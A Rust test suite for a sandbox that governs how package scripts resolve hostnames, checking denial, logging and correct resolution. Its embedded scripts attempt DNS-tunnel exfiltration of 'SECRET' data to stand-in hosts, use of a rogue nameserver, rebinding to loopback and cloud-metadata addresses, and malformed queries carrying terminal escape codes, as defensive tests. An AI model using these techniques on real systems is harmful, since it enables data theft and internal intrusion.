//! How names become addresses for a script: what is asked of the system's nameservers,
//! what is never asked, and which answers are believed.

mod harness;

use std::collections::BTreeSet;
use std::time::Duration;

use harness::world::{self, BLACKHOLE, World};
use harness::{Run, Site, User, users};
use serde_json::json;

const NONE: [String; 0] = [];

/// Resolves the names one after the other in one process; the outcome of each.
const LOOKUPS: &str = r"
def lookup(name, family=socket.AF_INET):
    try: return '+'.join(sorted({a[4][0] for a in socket.getaddrinfo(name, 80, family, socket.SOCK_STREAM)}))
    except socket.gaierror as e: return {socket.EAI_NONAME: 'NONAME', socket.EAI_AGAIN: 'AGAIN', getattr(socket, 'EAI_NODATA', -5): 'NODATA'}.get(e.errno, 'GAI%d' % e.errno)
def get(host):
    try:
        s = socket.create_connection((host, 7777), 3); return s.recv(5).decode()
    except Exception as e: return type(e).__name__ if not isinstance(e, OSError) or not e.errno else errno.errorcode.get(e.errno, 'NONAME')
";

fn looker(site: &mut Site, world: &World, name: &str, py: &str) {
    site.py(world, name, &format!("{LOOKUPS}\n{py}"));
}

fn denied_hosts(run: &Run, package: &str) -> BTreeSet<String> {
    run.events("resolve", package, "denied")
        .iter()
        .map(|e| e["target"]["host"].as_str().unwrap_or("-").to_owned())
        .collect()
}

#[test]
fn a_denied_name_fails_at_once_and_is_not_asked_for() {
    let Some(world) = world::open() else { return };
    for user in users() {
        // A name that exists and one that would take for ever.
        let id = format!("{user:?}").to_lowercase();
        world.host(&format!("there-{id}.denied.test"), "203.0.113.30");
        world.name(&format!("never-{id}.denied.test"), json!({ "never": true }));
        let mut site = world.site(user);
        let py = format!(
            "t = time.time()\nsay(lookup('there-{id}.denied.test'), lookup('never-{id}.denied.test'), lookup('there-{id}.denied.test', 0), '')\nsay('quick' if time.time() - t < 1 else time.time() - t)"
        );
        // With a grant and without any: a package without grants has no resolver to talk to.
        looker(&mut site, world, "some", &py);
        looker(&mut site, world, "none", &py);
        site.grant(&[("some", &["granted.world.test"])]);
        let run = site.attempt();
        for package in ["some", "none"] {
            assert_eq!(site.out(package), "NONAME NONAME NONAME quick", "{user:?} {package} {}", run.stderr);
            let hosts = [format!("never-{id}.denied.test"), format!("there-{id}.denied.test")];
            assert_eq!(denied_hosts(&run, package), BTreeSet::from(hosts), "{package}");
        }
        assert_eq!(world.asked(&format!("-{id}.denied.test")), NONE);
        let hint = run.events("resolve", "none", "denied")[0]["hint"].to_string();
        assert!(hint.contains("denied.test"), "the hint is the line that would allow it: {hint}");
    }
}

#[test]
fn data_does_not_leave_in_names() {
    let Some(world) = world::open() else { return };
    world.name("*.tunnel.test", json!({ "a": ["203.0.113.31"], "txt": "reply" }));
    world.name("*.tunnel.world.test", json!({ "a": ["203.0.113.31"] }));
    world.host("granted-tunnel.world.test", "203.0.113.31");
    let mut site = world.site(User::Caller);
    site.js(
        world,
        "p",
        r"
        const dns = require('dns').promises;
        (async () => {
          let answered = 0;
          const granted = await dns.lookup('granted-tunnel.world.test').then((a) => a.address);
          for (let n = 0; n < 500; n += 50) {
            const some = Array.from({ length: 50 }, (_, i) => Buffer.from('SECRET' + (n + i)).toString('hex'));
            const all = some.flatMap((x) => [dns.resolve4(x + '.tunnel.test'), dns.lookup(x + '.tunnel.world.test')]);
            for (const r of await Promise.allSettled(all)) answered += r.status == 'fulfilled';
          }
          for (const type of ['TXT', 'MX', 'SRV', 'NS', 'CNAME', 'ANY', 'NAPTR', 'CAA'])
            await dns.resolve('534543524554.tunnel.test', type).then(() => answered += 1, () => {});
          // Other questions about a granted name, and names below it, carry data as well.
          await dns.resolve4('534543524554.granted-tunnel.world.test').then(() => answered += 1, () => {});
          say(answered + ' ' + granted);
        })();",
    );
    site.grant(&[("p", &["granted-tunnel.world.test:443"])]);
    let run = site.attempt();
    assert_eq!(site.out("p"), "0 203.0.113.31", "{}", run.stderr);
    assert_eq!(world.asked(".tunnel.test"), NONE);
    assert_eq!(world.asked(".tunnel.world.test"), NONE);
    assert_eq!(world.asked(".granted-tunnel.world.test"), NONE);
    let lines = run.events("resolve", "p", "denied");
    let total: u64 = lines.iter().map(|e| e["count"].as_u64().unwrap_or(1)).sum();
    assert!(total >= 1000, "{total} questions are accounted for");
    assert!(run.log.len() < 1200, "{} lines", run.log.len());
    assert!(run.stderr.len() < 40_000, "the terminal is not flooded: {} bytes", run.stderr.len());
}

#[test]
fn another_nameserver_is_no_way_out() {
    let Some(world) = world::open() else { return };
    world.name("*.rogue.test", json!({ "a": ["203.0.113.32"] }));
    for user in users() {
        let mut site = world.site(user);
        let js = r"
            const { Resolver } = require('dns').promises, net = require('net'), dgram = require('dgram');
            (async () => {
              const r = new Resolver({ timeout: 500, tries: 1 }); r.setServers(['203.0.113.53']);
              say(await r.resolve4('534543.rogue.test').catch((e) => 'refused') + ' ');
              // The same by hand: a question on TCP, and one on UDP.
              const q = Buffer.from('0007010000010000000000000653454352455405726f6775650474657374000001' + '0001', 'hex');
              say(await new Promise((done) => { const s = net.connect(53, '203.0.113.53', () => s.write(Buffer.concat([Buffer.from([0, q.length]), q])));
                s.on('data', () => done('LEAK')).on('error', (e) => done(e.code)).on('close', () => done('closed')); setTimeout(done, 2000, 'silence'); }) + ' ');
              say(await new Promise((done) => { const s = dgram.createSocket('udp4'); s.on('error', (e) => done(e.code)).on('message', () => done('LEAK'));
                s.send(q, 53, '203.0.113.53', (e) => e && done(e.code)); setTimeout(done, 2000, 'silence'); }));
              process.exit(0);
            })();";
        site.js(world, "granted", js).js(world, "none", js);
        site.grant(&[("granted", &["something.world.test"])]);
        let run = site.attempt();
        for package in ["granted", "none"] {
            assert_eq!(site.out(package), "refused EACCES EACCES", "{user:?} {package} {}", run.stderr);
            run.assert_denied(package, "connect 203.0.113.53:53");
            let udp = run.events("connect", package, "denied");
            assert!(
                udp.iter()
                    .any(|e| e["target"]["kind"] == "udp" && e["target"]["address"] == "203.0.113.53:53")
            );
        }
    }
    assert_eq!(world.seen("rogue-dns"), Vec::<serde_json::Value>::new());
}

#[test]
fn public_names_that_point_inside_are_refused() {
    let Some(world) = world::open() else { return };
    let inside = [
        ("loopback", json!({ "a": ["127.0.0.1"] })),
        ("loopback2", json!({ "a": ["127.8.8.8"] })),
        ("any", json!({ "a": ["0.0.0.0"] })),
        ("private10", json!({ "a": ["10.1.2.3"] })),
        ("private172", json!({ "a": ["172.16.0.1"] })),
        ("private192", json!({ "a": ["192.168.1.1"] })),
        ("shared", json!({ "a": ["100.64.0.1"] })),
        ("linklocal", json!({ "a": ["169.254.1.1"] })),
        ("metadata", json!({ "a": ["169.254.169.254"] })),
        ("multicast", json!({ "a": ["224.0.0.1"] })),
        ("broadcast", json!({ "a": ["255.255.255.255"] })),
        ("loopback6", json!({ "aaaa": ["::1"] })),
        ("mapped", json!({ "aaaa": ["::ffff:7f00:1"] })),
        ("mappedmeta", json!({ "aaaa": ["::ffff:a9fe:a9fe"] })),
        ("nat64", json!({ "aaaa": ["64:ff9b::7f00:1"] })),
        ("sixtofour", json!({ "aaaa": ["2002:7f00:1::1"] })),
        ("unique", json!({ "aaaa": ["fd00:ec2::254"] })),
        ("linklocal6", json!({ "aaaa": ["fe80::1"] })),
    ];
    let mut py = String::new();
    for (name, entry) in &inside {
        world.name(&format!("{name}.inside.world.test"), entry.clone());
        py.push_str(&format!("say('{name}', lookup('{name}.inside.world.test', 0), '')\n"));
    }
    // One good address among bad ones does not carry them, nor they it.
    world.name("mixed.inside.world.test", json!({ "a": ["203.0.113.33", "127.0.0.1"] }));
    py.push_str("say(lookup('mixed.inside.world.test'), code(lambda: socket.create_connection(('127.0.0.1', 7777))), '')");
    let mut site = world.site(User::Caller);
    looker(&mut site, world, "p", &py);
    site.grant(&[("p", &["\"*.inside.world.test\""])]);
    let run = site.attempt();
    let out = site.out("p");
    for (name, entry) in &inside {
        let address = entry.to_string();
        let found = out.split_whitespace().skip_while(|w| w != name).nth(1).unwrap_or("-");
        assert!(["NONAME", "NODATA", "AGAIN"].contains(&found), "{name} {address}: {found} {}", run.stderr);
    }
    assert!(out.ends_with(" EACCES ") && !out.contains("127.0.0.1"), "{out}");
    let denied = denied_hosts(&run, "p");
    for (name, _) in &inside {
        assert!(
            denied.contains(&format!("{name}.inside.world.test")),
            "{name} is not in the log: {denied:?}"
        );
    }
}

#[test]
fn a_name_that_changes_its_mind_is_not_followed_inside() {
    let Some(world) = world::open() else { return };
    for user in users() {
        let id = format!("{user:?}").to_lowercase();
        let mut py = String::new();
        for (kind, inside) in [("loop", "127.0.0.1"), ("meta", "169.254.169.254"), ("lan", "10.1.2.3")] {
            let host = format!("{kind}-{id}.rebind.test");
            world.name(&host, json!({ "turns": [["203.0.113.34"], [inside]], "ttl": 0 }));
            py.push_str(&format!("say('{kind}', get('{host}'), get('{host}'), get('{inside}'), '')\n"));
        }
        let mut site = world.site(user);
        looker(&mut site, world, "p", &py);
        site.grant(&[("p", &["\"*.rebind.test\""])]);
        let run = site.attempt();
        let out = site.out("p");
        let words: Vec<&str> = out.split_whitespace().collect();
        assert_eq!(words.len(), 12, "{out} {}", run.stderr);
        for kind in words.chunks(4) {
            assert_eq!(kind[1], "hello", "{user:?} {out} {}", run.stderr);
            assert_ne!(kind[2], "hello", "{out}");
            assert_eq!(kind[3], "EACCES", "{out}");
        }
        for inside in ["127.0.0.1", "169.254.169.254", "10.1.2.3"] {
            assert_eq!(world.seen_of("tcp", &format!("\"local\":\"{inside}:")).len(), 0);
        }
        assert_eq!(denied_hosts(&run, "p").len(), 3);
    }
}

#[test]
fn aliases_large_answers_and_ipv6_only_hosts_are_resolved() {
    let Some(world) = world::open() else { return };
    world.name("alias1.shape.test", json!({ "cname": "alias2.elsewhere.test" }));
    world.name("alias2.elsewhere.test", json!({ "cname": "alias3.elsewhere.test" }));
    world.name("alias3.elsewhere.test", json!({ "a": ["203.0.113.35"] }));
    world.name("loop1.shape.test", json!({ "cname": "loop2.shape.test" }));
    world.name("loop2.shape.test", json!({ "cname": "loop1.shape.test" }));
    world.name("inward.shape.test", json!({ "cname": "inner.elsewhere.test" }));
    world.host("inner.elsewhere.test", "127.0.0.1");
    let many: Vec<String> = (1..=100).map(|n| format!("203.0.113.{n}")).collect();
    world.name("many.shape.test", json!({ "a": many }));
    world.name("six.shape.test", json!({ "aaaa": ["2001:db8:1::35"] }));
    for user in users() {
        let mut site = world.site(user);
        looker(
            &mut site,
            world,
            "p",
            r"
say(get('alias1.shape.test'), lookup('loop1.shape.test') in ('NONAME', 'AGAIN', 'NODATA', 'GAI-4'), get('inward.shape.test') == 'hello', '')
say(len(lookup('many.shape.test').split('+')), get('many.shape.test'), get('203.0.113.100'), get('203.0.113.101'), '')
say(lookup('six.shape.test', 0), get('six.shape.test'), '')
# Where the alias leads is not granted by its own name.
say(lookup('alias3.elsewhere.test'))",
        );
        looker(&mut site, world, "q", "say(get('203.0.113.35'))");
        site.grant(&[("p", &["\"*.shape.test\""])]);
        let run = site.attempt();
        assert_eq!(
            site.out("p"),
            "hello True False 100 hello hello EACCES 2001:db8:1::35 hello NONAME",
            "{user:?} {}",
            run.stderr
        );
        assert_eq!(site.out("q"), "EACCES");
    }
    assert!(
        world.seen_of("dns", "many.shape.test").iter().any(|q| q["proto"] == "tcp"),
        "cut answers are asked for again"
    );
}

#[test]
fn a_dead_nameserver_costs_time_and_not_the_answer() {
    let Some(world) = world::open() else { return };
    world.host("second.slow.test", "203.0.113.36");
    let config = format!("nameserver {BLACKHOLE}\nnameserver 198.51.100.53\noptions timeout:1 attempts:2\n");
    let mut site = world.site_with(User::Caller, &[("resolv.conf", &config)]);
    looker(&mut site, world, "p", "t = time.time()\nsay(get('second.slow.test'), time.time() - t < 12)");
    site.grant(&[("p", &["second.slow.test"])]);
    let run = site.attempt();
    assert_eq!(site.out("p"), "hello True", "{}", run.stderr);
}

#[test]
fn a_slow_name_is_waited_for_and_a_silent_one_given_up_while_others_go_on() {
    let Some(world) = world::open() else { return };
    world.name("slow.patience.test", json!({ "a": ["203.0.113.37"], "delay": 1500 }));
    world.name("silent.patience.test", json!({ "never": true }));
    world.host("quick.patience.test", "203.0.113.37");
    let mut site = world.site(User::Caller);
    looker(
        &mut site,
        world,
        "p",
        r"
start, out = time.time(), {}
def one(name):
    try: got = get(name)
    except Exception as e: got = repr(e)
    out[name[:5]] = (got, time.time() - start)
names = ['slow.patience.test', 'silent.patience.test', 'quick.patience.test']
threads = [threading.Thread(target=one, args=(name,)) for name in names]
for t in threads: t.start(); time.sleep(0.1)
for t in threads: t.join()
say(out['slow.'][0], out['quick'][0], out['silen'][0] != 'hello', out['quick'][1] < 1.2, 1.4 < out['slow.'][1] < 5, out['silen'][1] < 40, out)",
    );
    site.grant(&[("p", &["\"*.patience.test\""])]);
    let start = std::time::Instant::now();
    let run = site.attempt();
    assert!(site.out("p").starts_with("hello hello True True True True"), "{} {}", site.out("p"), run.stderr);
    assert!(start.elapsed() < Duration::from_secs(60));
    let events = run.events("resolve", "p", "*");
    assert!(
        events.iter().any(|e| e["target"]["host"] == "silent.patience.test"),
        "the failed look-up is in the log"
    );
}

#[test]
fn names_of_the_hosts_file_are_granted_like_others() {
    let Some(world) = world::open() else { return };
    // The file says 203.0.113.77, as in the world's own; the DNS server knows another address.
    world.host("from-hosts.world.test", "203.0.113.38");
    for user in users() {
        let mut site = world.site(user);
        looker(
            &mut site,
            world,
            "granted",
            "say(lookup('from-hosts.world.test'), get('from-hosts.world.test'))",
        );
        // Its own look at the file gives a script the address, and no more.
        looker(
            &mut site,
            world,
            "other",
            "say(lookup('from-hosts.world.test'), get('from-hosts.world.test'))",
        );
        site.js(
            world,
            "cares",
            "require('dns').resolve4('from-hosts.world.test', (e, a) => say(e?.code ?? a))",
        );
        site.grant(&[("granted", &["from-hosts.world.test:7777"])]);
        let run = site.attempt();
        assert_eq!(site.out("granted"), "203.0.113.77 hello", "{user:?} {}", run.stderr);
        assert_eq!(site.out("other"), "203.0.113.77 EACCES");
        // c-ares reads the file by itself, as well.
        assert_eq!(site.out("cares"), "203.0.113.77");
        run.assert_quiet("granted");
        let denied = run.events("connect", "other", "denied");
        assert_eq!(denied.len(), 1, "{:?}", run.denied("other"));
    }
}

#[test]
fn search_domains_complete_short_names() {
    let Some(world) = world::open() else { return };
    world.host("shortname.search.test", "203.0.113.39");
    let config = "nameserver 198.51.100.53\nsearch first.test search.test\n";
    let mut site = world.site_with(User::Caller, &[("resolv.conf", config)]);
    looker(&mut site, world, "p", "say(get('shortname'), get('shortname.search.test'), get('othername'))");
    site.grant(&[("p", &["shortname.search.test"])]);
    let run = site.attempt();
    assert!(site.out("p").starts_with("hello hello "), "{} {}", site.out("p"), run.stderr);
    assert!(!site.out("p").ends_with("hello"), "{}", site.out("p"));
    assert_eq!(world.asked("othername.search.test"), NONE);
    assert_eq!(world.asked("first.test"), NONE, "what no grant covers is not asked for on the way either");
}

#[test]
fn nameservers_with_ipv6_addresses_are_used() {
    let Some(world) = world::open() else { return };
    world.host("six.nameserver.test", "203.0.113.40");
    let mut site = world.site_with(User::Caller, &[("resolv.conf", "nameserver 2001:db8:1::53\n")]);
    looker(&mut site, world, "p", "say(get('six.nameserver.test'))");
    site.js(world, "cares", "require('dns').resolve4('six.nameserver.test', (e, a) => say(e?.code ?? a))");
    site.grant(&[("p", &["six.nameserver.test"]), ("cares", &["six.nameserver.test"])]);
    let run = site.attempt();
    assert_eq!(site.out("p"), "hello", "{}", run.stderr);
    assert_eq!(site.out("cares"), "203.0.113.40", "{}", run.stderr);
}

#[test]
fn hostile_questions_are_escaped_in_the_log_and_harm_nobody() {
    let Some(world) = world::open() else { return };
    world.host("after.hostile.test", "203.0.113.41");
    let mut site = world.site(User::Caller);
    looker(
        &mut site,
        world,
        "p",
        r"
import struct
server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
def q(name, qtype=1, head=b'\x00\x07\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00'):
    return head + name + struct.pack('>HH', qtype, 1)
esc = b'\x08ev\x1b[31m\x07\x04test\x00'
hostile = [q(esc), q(b'\x06a\x00b\xff.c\x04test\x00'), q(b'\xc0\x0c'), q(b'\x3f' + b'a' * 63 + b'\x00'), b'', b'\x00', b'\x00\x07', q(b'\x7f' + b'a' * 127),
    q(b'\x01a\x04test\x00', 1, b'\x00\x07\x01\x00\xff\xff\xff\xff\xff\xff\xff\xff'), q(b'\x01a' * 200 + b'\x00'), q(b'\x01a\x04test\x00', 252), b'\xff' * 60000]
for m in hostile:
    try:
        s = socket.create_connection((server, 53), 2); s.settimeout(1)
        s.sendall(struct.pack('>H', len(m)) + m); s.recv(600); s.close()
    except OSError: pass
# Half a question, then nothing; many connections that say nothing.
idle = []
for n in range(100):
    try: s = socket.create_connection((server, 53), 2); s.sendall(b'\x00'); idle.append(s)
    except OSError: break
for s in idle: s.close()
time.sleep(0.5)
say(get('after.hostile.test'))",
    );
    site.grant(&[("p", &["after.hostile.test"])]);
    let run = site.attempt();
    assert_eq!(site.out("p"), "hello", "{}", run.stderr);
    for text in [&run.stderr, &run.stdout] {
        assert!(!text.contains("\x1b[31m"), "a name writes to the terminal");
    }
    for event in run.events("resolve", "p", "*") {
        let host = event["target"]["host"].as_str().unwrap_or_default();
        assert!(host.chars().all(|c| c.is_ascii_graphic()), "{host:?}");
        assert!(host.len() <= 1100, "{} bytes", host.len());
    }
    assert!(world.seen("dns").iter().all(|q| !q["asked"].as_str().is_some_and(|a| a.contains('\u{1b}'))));
}

#[test]
fn a_program_that_looks_up_its_granted_name_often_gets_an_answer_each_time() {
    let Some(world) = world::open() else { return };
    world.name("often.world.test", json!({ "a": ["203.0.113.42"] }));
    let mut site = world.site(User::Caller);
    // A downloader of a thousand files, without keep-alive: node caches no names.
    site.js(
        world,
        "p",
        r"
        (async () => {
          const dns = require('dns').promises, all = {};
          for (let n = 0; n < 1000; n += 10)
            await Promise.all(Array.from({ length: 10 }, () => dns.lookup('often.world.test', { all: true }).then((a) => a.length, (e) => e.code).then((x) => { all[x] = (all[x] ?? 0) + 1; })));
          say(JSON.stringify(all));
        })();",
    );
    site.grant(&[("p", &["often.world.test"])]);
    let run = site.attempt();
    assert_eq!(site.out("p"), r#"{"1":1000}"#, "{}", run.stderr);
    run.assert_quiet("p");
}
